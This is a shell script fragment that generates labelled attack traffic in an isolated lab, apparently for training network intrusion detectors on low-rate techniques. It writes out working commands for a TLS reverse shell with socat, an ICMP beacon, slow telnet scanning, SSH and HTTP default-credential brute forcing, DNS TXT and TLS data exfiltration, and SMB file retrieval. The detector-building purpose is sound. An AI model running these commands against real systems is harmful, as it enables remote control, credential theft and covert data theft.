# Sourced by gen-fresh.sh for `--only fresh-quiet`: quiet variants of never-tuned-on techniques (low rate, one
# connection, ports every device uses), made after the loud fresh set showed that the reverse shell was what it
# missed. Same lab and rules; every tool under `timeout`, every loop bounded. Ids frq-*.

TLS_SHELL_IP=$NET.23 TLS_SINK_IP=$NET.24
export NET VIC_IP W
ns vic ip addr add "$TLS_SHELL_IP/24" dev eth0
ns vic ip addr add "$TLS_SINK_IP/24" dev eth0
ns vic timeout 900 socat -u "OPENSSL-LISTEN:443,bind=$TLS_SINK_IP,reuseaddr,fork,cert=$W/tls.crt,key=$W/tls.key,verify=0" STDOUT >/dev/null 2>&1 &
PIDS+=($!)
sleep 1

# ---------- c2 ----------
# Reverse shell inside TLS on 443 (a port nearly every device uses), an operator typing 8 commands.
cat > "$W/frq-operator.sh" <<'EOS'
typ() { local s="$1" i; for ((i = 0; i < ${#s}; i++)); do printf '%s' "${s:i:1}"; sleep 0.0$((RANDOM % 9 + 1)); done; printf '\n'; }
sleep 3
for c in 'id' 'uname -a' 'cat /etc/os-release' 'ls -la /tmp | head -10' 'ps aux | head -15' 'ip -4 route' 'df -h' 'exit'; do
  typ "$c"; sleep $((RANDOM % 6 + 4))
done
sleep 2
EOS
ns vic timeout 170 bash -c "bash $W/frq-operator.sh | socat OPENSSL-LISTEN:443,bind=$TLS_SHELL_IP,reuseaddr,cert=$W/tls.crt,key=$W/tls.key,verify=0 STDIO >/dev/null" &
PIDS+=($!)
sleep 1
CAP_VIC_IP=$TLS_SHELL_IP fcap frq-c2-tls-revshell c2 socat-openssl-reverse-shell attacker public false 150 \
  socat "OPENSSL:$TLS_SHELL_IP:443,verify=0,connect-timeout=5" "EXEC:env HISTFILE=/dev/null bash --norc --noprofile -i,pty,stderr,setsid,sigint,sane"
# ICMP beacon: 30 echo requests with a 120-byte patterned payload, one every 4 s.
fcap frq-c2-icmp-beacon c2 ping-payload attacker public false 150 ping -c 30 -i 4 -s 120 -p 6b31c0de "$VIC_IP"

# ---------- scan ----------
# Mirai-like telnet probing at one SYN every 3 s (40 random internet addresses).
CAP_WAN=$FRESH_WAN fcap frq-scan-slow-telnet-wan scan hping3-rand-dest-slow attacker wan false 150 \
  hping3 -q -S -p 23 --rand-dest -I eth0 -i 3 -c 40 10.128.x.x

# ---------- credential ----------
head -10 "$W/pw30.txt" > "$W/pw10.txt"
fcap frq-cred-slow-ssh credential patator-ssh-slow attacker,victim public false 180 \
  patator ssh_login host="$VIC_IP" user=FILE0 password=FILE1 0="$W/users2.txt" 1="$W/pw10.txt" persistent=0 \
  -t 1 --rate-limit=6 -x ignore:mesg='Authentication failed.'

# ---------- dnstunnel ----------
# Slow DNS exfiltration: a file's base32 in 40-character labels, one TXT lookup every 2 s.
cat > "$W/frq-dnsexfil.sh" <<'EOS'
head -c 1500 /dev/urandom | base32 -w0 | tr -d = | tr 'A-Z' 'a-z' | fold -w 40 | head -60 | {
  i=0
  while read -r chunk; do
    i=$((i + 1))
    host -W 1 -t TXT "$chunk.$i.x.cdn-update.example.test" "$VIC_IP" >/dev/null 2>&1
    sleep 2
  done
}
EOS
fcap frq-dns-slow-txt-exfil dnstunnel host-txt-slow attacker public false 150 bash "$W/frq-dnsexfil.sh"

# ---------- exfil ----------
CAP_VIC_IP=$TLS_SINK_IP fcap frq-exfil-tls-2mb exfil socat-openssl attacker public false 90 bash -c \
  "head -c 2000000 /dev/urandom | socat -u STDIN OPENSSL:$TLS_SINK_IP:443,verify=0,connect-timeout=5"

# ---------- lateral ----------
# One SMB session to one neighbour, one small file (smbget; curl's smb:// speaks only SMB1, which samba refuses).
fcap frq-lat-smbget-one lateral smbget attacker lan false 60 smbget -a -q -o /dev/null "smb://$VIC_IP/public/config.ini"
# An IoT worm's way in: a neighbour's web admin page, then 6 default-credential logins (HTTP basic auth).
fcap frq-lat-web-admin lateral curl-lan-web-admin attacker lan false 60 bash -c \
  "curl -s -m 5 -o /dev/null http://$NET.31/; for c in admin:admin admin:1234 root:root admin:password user:user root:12345; do curl -s -m 5 -o /dev/null -u \$c http://$NET.31/cgi-bin/login.cgi; sleep 1; done"
